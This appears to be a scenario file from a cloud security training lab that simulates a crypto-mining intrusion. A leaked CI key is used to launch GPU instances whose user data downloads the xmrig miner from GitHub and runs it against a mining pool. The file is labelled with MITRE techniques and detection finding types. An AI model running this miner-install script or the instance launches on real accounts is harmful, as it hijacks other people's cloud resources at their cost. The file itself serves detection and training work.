"""crypto-mining: large GPU instances launched in a region the organisation never uses.

The leaked ci-deployer key from ``ATTACKER_IP`` looks at the unused region, imports an SSH key,
and launches GPU instances (p3.16xlarge, g4dn.12xlarge) whose user data installs a miner.
"""

from __future__ import annotations

import base64

from cloudwarden.lab import demo_org as org
from cloudwarden.lab.scenarios.base import Scenario, ScenarioContext, tolerate

REGION = org.UNUSED_REGION
# A public Ubuntu AMI id as the attacker would paste it; the lab does not validate AMI ids.
AMI_ID = "ami-0a2a8e4b5b2c3d4e5"
KEY_NAME = "ops-key"
# An SSH public key of the attacker's (format only; the key material is random).
PUBLIC_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHt1X0aGq3eY2m9p8sZJkq6tA4bL0wN7rC5vD2fE8gH1 root@kali"
MINER_USER_DATA = (
    "#!/bin/bash\n"
    "curl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"
    " | tar xz -C /opt\n"
    "/opt/xmrig-6.21.0/xmrig -o pool.supportxmr.com:3333 -u 4AfakeWalletAddress --donate-level 1 -B\n"
)
FLEET = (("p3.16xlarge", 3), ("g4dn.12xlarge", 2))


def run(ctx: ScenarioContext) -> None:
    attacker = ctx.actor(f"prod/{org.USER_CI}", source_ip=org.ATTACKER_IP, user_agent=org.ATTACKER_USER_AGENT,
                         region=REGION)
    ec2 = attacker.client("ec2", REGION)
    ec2.describe_regions()
    ec2.describe_instances()
    ec2.describe_vpcs()
    tolerate(lambda: ec2.import_key_pair(KeyName=KEY_NAME, PublicKeyMaterial=PUBLIC_KEY.encode()),
             "InvalidKeyPair.Duplicate")
    user_data = base64.b64encode(MINER_USER_DATA.encode()).decode()
    for instance_type, count in FLEET:
        ec2.run_instances(ImageId=AMI_ID, InstanceType=instance_type, MinCount=count, MaxCount=count,
                          KeyName=KEY_NAME, UserData=user_data)


SCENARIO = Scenario(
    name="crypto-mining",
    title="GPU instances launched in an unused region",
    description=(
        f"prod/{org.USER_CI}'s key from {org.ATTACKER_IP} (Kali AWS CLI) in {REGION}: DescribeRegions, "
        f"DescribeInstances, DescribeVpcs, ImportKeyPair {KEY_NAME}, RunInstances "
        + ", ".join(f"{n} x {t}" for t, n in FLEET)
        + " with user data that installs and starts xmrig against pool.supportxmr.com."
    ),
    mitre=("T1496", "T1578.002", "T1535"),
    finding_types=(
        "Impact:IAMUser/AnomalousBehavior",
        "UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom",
        "PenTest:IAMUser/KaliLinux",
        "CryptoCurrency:EC2/BitcoinTool.B",
    ),
    run=run,
)
